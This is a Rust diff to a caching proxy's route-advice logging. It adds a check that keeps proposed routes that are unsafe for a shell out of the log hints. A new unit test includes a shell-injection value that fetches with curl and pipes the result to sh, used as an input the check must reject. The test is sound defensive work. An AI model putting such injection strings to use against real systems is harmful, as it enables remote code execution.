@@ -12,7 +12,7 @@ use std::{
 use tracing::warn;
 
 use super::metrics::RequestTotals;
-use crate::semantics::policy::Bypass;
+use crate::semantics::{policy::Bypass, route::Routes};
 
 /// Reads in a row that match no route, after which the log proposes one.
 const UNMATCHED: u64 = 100;
@@ -51,20 +51,24 @@ impl RouteAdvice {
     /// Notes a GET that bypassed the cache for this reason. `setting` is what would cache it.
     pub(super) fn note(
         &self,
-        path: &str,
-        why: Bypass,
-        setting: Option<&'static str>,
-        totals: impl FnOnce() -> RequestTotals,
+        routes: &Routes,
+        (path, why, setting): (&str, Bypass, Option<&'static str>),
+        totals: impl Fn() -> RequestTotals,
     ) {
         if path.len() > MAX_PATH {
             return;
         }
         let mut refused = self.0.lock().unwrap_or_else(PoisonError::into_inner);
         match why {
-            Bypass::Path if !refused.has_proposed_route => {
-                refused.note_unmatched(path, totals().reads());
+            Bypass::Path | Bypass::Spelling
+                if (why == Bypass::Path || setting == Some("routes"))
+                    && !refused.has_proposed_route =>
+            {
+                refused.note_unmatched(path, totals().hits + totals().misses);
             }
-            Bypass::Word if setting.is_some() => refused.note_word(path),
+            Bypass::Word if setting.is_some() => {
+                refused.note_word(routes.id_at(path).unwrap_or_default());
+            }
             Bypass::Spelling if setting == Some("ids=opaque") => refused.note_spelling(totals),
             _ => {}
         }
@@ -85,25 +89,29 @@ impl Refused {
             return;
         }
         self.unmatched = 0;
-        let Some(route) = proposal(&self.paths) else { return };
+        let Some(route) = proposal(&self.paths).filter(|route| is_usable(route)) else {
+            self.paths.clear();
+            return;
+        };
         self.has_proposed_route = true;
         let shapes: BTreeSet<String> = self.paths.iter().map(|path| shape(path)).collect();
         let paths = shapes.into_iter().take(SHOWN).collect::<Vec<_>>().join(" ");
         self.paths.clear();
         warn!(
             paths,
-            "{UNMATCHED} reads in a row match no route, so nothing is cached; if jobs are read at these \
-             paths, start with --route '{route}'"
+            route,
+            "100 reads in a row match no route, so nothing is cached; if jobs are read at these paths, \
+             start with --route and this route"
         );
     }
 
-    fn note_word(&mut self, path: &str) {
+    fn note_word(&mut self, word: &str) {
         let now = Instant::now();
         if self.words_since.is_none_or(|since| now.duration_since(since) > WORDS_WITHIN) {
             self.words_since = Some(now);
             self.words.clear();
         }
-        self.words.insert(path.to_owned());
+        self.words.insert(word.to_owned());
         if self.words.len() >= WORDS {
             self.propose_ids("ids without a digit are taken for words, and not cached");
         }
@@ -120,11 +128,18 @@ impl Refused {
         self.words.clear();
         if !std::mem::replace(&mut self.has_proposed_ids, true) {
             warn!(
-                "{why}, so these reads are not cached; if the API compares ids as text, start with \
-                 --ids opaque"
+                why,
+                "ids are refused, and their reads not cached; if the API compares ids as text, start \
+                 with --ids opaque, and name in --except what is no job"
             );
         }
     }
+}
+
+/// Whether a proposed route may be pasted into a shell, and is taken.
+fn is_usable(route: &str) -> bool {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/{}._~-".contains(&byte);
+    route.bytes().all(is_plain) && Routes::parse(&[route]).is_ok()
 }
 
 /// Whether a segment may be an id. `v1` is the version of an API.
@@ -207,6 +222,14 @@ mod tests {
         check(&["/runs/red", "/runs/blue"], Some("/runs/{id}"));
         check(&["/health"], None);
         check(&["/"], None);
+    }
+
+    #[test]
+    fn what_a_shell_would_run_or_jobcache_refuse_is_not_proposed() {
+        assert!(is_usable("/t/{v2}/jobs/{id}/"));
+        for route in ["/a';curl${IFS}x|sh;'/{id}", "/dags/{dag}/dags/{dag}/{id}", "/a%20b/{id}"] {
+            assert!(!is_usable(route), "{route}");
+        }
     }
 
     #[test]
